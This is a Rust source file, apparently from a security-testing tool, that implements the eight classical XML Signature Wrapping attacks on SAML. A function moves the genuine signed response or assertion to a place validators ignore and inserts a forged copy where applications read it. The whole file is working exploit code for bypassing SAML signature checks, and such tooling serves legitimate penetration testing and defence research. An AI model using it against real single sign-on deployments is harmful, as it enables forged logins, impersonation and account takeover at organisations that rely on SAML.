//! Signature wrapping: the eight classical ways to move signed contents to where nobody reads them and to put
//! forged ones where they are read.

use anyhow::Context as _;

/// Which of the eight, numbered as everybody numbers them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Wrapping {
    /// The signed response goes into the signature of a forged one.
    One,
    /// The signed response goes before its signature in a forged one.
    Two,
    /// A forged assertion stands before the signed one.
    Three,
    /// The signed assertion goes into a forged one.
    Four,
    /// The forged assertion has the signature; the signed one, without it, stands behind.
    Five,
    /// The forged assertion has the signature, and that has the signed one in it.
    Six,
    /// The forged assertion stands in the extensions.
    Seven,
    /// The signed assertion goes into an object of the forged one's signature.
    Eight,
}

impl Wrapping {
    /// All eight.
    pub const ALL: &[Self] =
        &[Self::One, Self::Two, Self::Three, Self::Four, Self::Five, Self::Six, Self::Seven, Self::Eight];

    /// Whether it forges a signed response rather than a signed assertion.
    pub fn of_response(self) -> bool {
        matches!(self, Self::One | Self::Two)
    }
}

/// Wraps `signed`, a response that is signed itself for the first two ways, and else one with a signed assertion.
/// `forge` changes the text of the part that is to be believed.
pub fn wrapped(signed: &str, wrapping: Wrapping, forge: &dyn Fn(&str) -> String) -> anyhow::Result<String> {
    let signature = cut(signed, "<ds:Signature ", "</ds:Signature>")?;
    if wrapping.of_response() {
        let bare = signed.replacen(signature, "", 1);
        let forged = forge(&bare).replacen("ID=\"_response\"", "ID=\"_forged\"", 1);
        let moved = if wrapping == Wrapping::One {
            with_inside(signature, "</ds:Signature>", &bare)?
        } else {
            format!("{bare}{signature}")
        };
        return behind(&forged, "</saml:Issuer>", &moved);
    }
    let assertion = cut(signed, "<saml:Assertion ", "</saml:Assertion>")?;
    let bare = assertion.replacen(signature, "", 1);
    let forged = forge(&bare).replacen("ID=\"_assertion\"", "ID=\"_forged\"", 1);
    let parts = match wrapping {
        Wrapping::Three => format!("{forged}{assertion}"),
        Wrapping::Four => with_inside(&forged, "</saml:Assertion>", assertion)?,
        Wrapping::Five => format!("{}{bare}", behind(&forged, "</saml:Issuer>", signature)?),
        Wrapping::Six => {
            let holding = with_inside(signature, "</ds:Signature>", &bare)?;
            behind(&forged, "</saml:Issuer>", &holding)?
        }
        Wrapping::Seven => {
            let extensions = format!("<samlp:Extensions>{forged}</samlp:Extensions>");
            let moved = behind(signed, "</saml:Issuer>", &extensions)?;
            return Ok(moved);
        }
        _ => {
            let object = format!("<ds:Object>{bare}</ds:Object>");
            let holding = with_inside(signature, "</ds:Signature>", &object)?;
            behind(&forged, "</saml:Issuer>", &holding)?
        }
    };
    Ok(signed.replacen(assertion, &parts, 1))
}

fn cut<'a>(text: &'a str, start: &str, end: &str) -> anyhow::Result<&'a str> {
    let from = text.find(start).with_context(|| format!("no {start}"))?;
    let length = text.get(from..).and_then(|rest| rest.find(end)).with_context(|| format!("no {end}"))?;
    text.get(from..from + length + end.len()).context("a letter cut in two")
}

fn with_inside(text: &str, end: &str, contents: &str) -> anyhow::Result<String> {
    let at = text.rfind(end).with_context(|| format!("no {end}"))?;
    let (before, after) = text.split_at_checked(at).context("a letter cut in two")?;
    Ok(format!("{before}{contents}{after}"))
}

fn behind(text: &str, mark: &str, contents: &str) -> anyhow::Result<String> {
    let (before, after) = text.split_once(mark).with_context(|| format!("no {mark}"))?;
    Ok(format!("{before}{mark}{contents}{after}"))
}
